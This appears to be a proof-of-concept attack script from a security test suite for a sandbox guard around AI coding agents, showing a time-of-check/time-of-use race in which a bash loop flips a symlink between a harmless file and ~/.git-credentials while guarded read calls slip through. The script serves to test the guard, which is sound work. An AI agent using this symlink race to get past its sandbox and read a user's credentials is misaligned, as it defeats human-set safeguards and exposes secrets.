/*
 * Finding (race): the file-tool guard resolves a path (tool-paths.ts resolvedPath/realpath) in
 * `tool.execute.before`, and OpenCode opens it afterwards. A sandboxed command that runs meanwhile
 * (another crew agent's shell on the same tree, or a long bash call of the same session in the
 * same step) swaps the link between the check and the open. This drives the real guard
 * (SessionGuard: the flipper is a guarded bash call, rewritten into the sandbox, and the reads are
 * read tool calls), then opens the path the guard handed on as OpenCode's read does; it counts the
 * reads the guard allowed that returned the user's credential.
 * Run: npx tsx scripts/attack/toctou.ts
 */
import fs from "node:fs";
import path from "node:path";
import { spawn } from "node:child_process";
import { silentLogger } from "../../src/core/index.ts";
import { SessionGuard } from "../../src/guard/session-guard.ts";
import { lab, verdict, DEV_SECRETS } from "./lib.ts";

const l = lab("toctou");
fs.writeFileSync(path.join(l.repo, "notes.txt"), "harmless\n");
const target = path.join(l.home, ".git-credentials");
fs.symlinkSync("notes.txt", path.join(l.repo, "x"));
const guard = new SessionGuard({ directory: l.repo, env: l.env, log: silentLogger });
guard.track("ses_a");
guard.track("ses_b");
const flip = { command: `for i in $(seq 1 20000); do ln -sfn notes.txt x; ln -sfn ${target} x; done; ln -sfn notes.txt x` };
await guard.beforeTool({ tool: "bash", sessionID: "ses_a", callID: "call_flip" }, { args: flip });
const child = spawn("/bin/sh", ["-c", flip.command], { cwd: l.repo, env: l.env, stdio: "ignore", detached: true });
child.on("exit", () => void guard.afterTool({ tool: "bash", sessionID: "ses_b", callID: "call_flip" }, { output: "" }));
let allowed = 0;
let leaked = 0;
let refused = 0;
const deadline = Date.now() + 8000;
let i = 0;
while (Date.now() < deadline) {
  const args: Record<string, unknown> = { filePath: "x" };
  try {
    await guard.beforeTool({ tool: "read", sessionID: "ses_b", callID: `call_${i++}` }, { args });
  } catch (error) {
    if (refused === 0) console.log(String(error).slice(0, 300));
    refused++;
    continue;
  }
  allowed++;
  try {
    // OpenCode's read opens the path the hook left in the arguments.
    if (fs.readFileSync(path.resolve(l.repo, String(args.filePath)), "utf8").includes(DEV_SECRETS.gitCredential)) leaked++;
  } catch {
    // the link was being replaced
  }
}
if (child.exitCode === null && child.pid) process.kill(-child.pid, "SIGKILL"); // the whole group, as OpenCode ends a bash call
verdict(
  "check-then-open race on a flipping link",
  leaked > 0,
  `${allowed} reads allowed by the guard, ${refused} refused, ${leaked} returned ~/.git-credentials`,
);
